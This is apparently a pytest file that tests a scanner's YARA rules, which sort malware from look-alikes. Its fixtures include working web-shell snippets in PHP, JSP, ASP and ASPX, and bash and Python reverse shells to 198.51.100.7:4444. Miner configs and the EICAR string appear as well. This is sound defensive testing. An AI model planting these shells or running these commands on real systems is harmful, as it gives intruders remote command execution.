"""Our own rules: what each of them catches, and what only looks like it."""

import pytest

from gate.images.yara.rules import compiled, rule_files
from gate.images.yara.search import search
from gate.trees import Entry, EntryKind

ELF = b"\x7fELF" + bytes(60)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

CAUGHT = {
    "miner_xmrig": ELF + b"XMRig 6.21 donate-level RandomX rig-id stratum+tcp://pool.example:3333",
    "miner_stratum_client": ELF + b"stratum+ssl://pool.example mining.subscribe mining.submit",
    "miner_settings": b'{"cpu": true, "donate-level": 1, "pools": [{"coin": "x", "url": "p:1", "user": "w"}]}',
    "miner_script": b"#!/bin/sh\n./m -o stratum+tcp://pool.example:3333 -u wallet\n",
    "miner_in_web_page": b"<script>var m = new CoinHive.Anonymous('key'); m.start()</script>",
    "web_shell_php_runs_request": b"<?php @eval(base64_decode($_POST['x'])); ?>",
    "web_shell_php_calls_request": b"<?php $_GET['f']($_GET['a']); ?>",
    "web_shell_php_unpacks_itself": b"<?php eval(gzinflate(base64_decode('80')));",
    "web_shell_jsp": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "web_shell_jsp_loads_classes": b"<%! class U extends ClassLoader { Class g(byte[] b) { return defineClass(b); } }"
    b"%><% request.getReader() %>",
    "web_shell_asp": b'<%@ Page Language="Jscript"%><%eval(Request.Item["c"],"unsafe");%>',
    "web_shell_aspx": b'<%@ Page %><% Process.Start("cmd.exe", "/c " + Request.Form["c"]); %>',
    "reverse_shell_in_script": b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
    "reverse_shell_in_python": b's.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
    "eicar_test_file": EICAR,
}
PASSED = {
    "a document about miners": b"Pools speak stratum+tcp://; XMRig has a donate-level, RandomX, nicehash, rig-id.",
    "a program that speaks another protocol": ELF + b"tcp:// mining.subscribe mining.submit",
    "settings of a pool of connections": b'{"pools": [{"url": "db:1", "user": "app"}], "cpu": 2}',
    "PHP that evaluates its own text": b"<?php eval('return ' . $expression . ';');",
    "PHP that reads a request": b"<?php $name = trim($_POST['name']); exec($command); ?>",
    "PHP that only unpacks": b"<?php $text = gzinflate(base64_decode($cached)); ?>",
    "a page with a parameter": b'<%= request.getParameter("name") %>',
    "Java that starts a program": b"Runtime.getRuntime().exec(command); request.getParameter(name);",
    "a script that waits for a port": b"#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n",
    "a text about reverse shells": b"An example: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "a client in Python": b's.connect(("db", 5432)); subprocess.run(["/bin/sh", "-c", "true"])',
    "a text that quotes the test file": b"The file is: " + EICAR,
}


def matches(content: bytes) -> set[str]:
    entry = Entry(path="srv/file", kind=EntryKind.FILE, size=len(content))
    found = search(rule_files(()), [entry], lambda _: content)
    assert found.errors == ()
    return {match.rule for match in found.matches}


@pytest.mark.parametrize("rule", CAUGHT)
def test_malware_is_caught_by_the_rule_that_is_meant(rule: str) -> None:
    assert matches(CAUGHT[rule]) == {rule}


def test_every_rule_has_an_example() -> None:
    assert {rule.identifier for rule in compiled(rule_files(()))} == set(CAUGHT)


@pytest.mark.parametrize("kind", PASSED)
def test_what_only_looks_like_malware_passes(kind: str) -> None:
    assert matches(PASSED[kind]) == set()


def test_an_image_with_the_gate_in_it_is_not_caught_by_the_rules_themselves() -> None:
    own = [file.text.encode() for file in rule_files(())]
    assert [matches(text) for text in own] == [set()] * len(own)
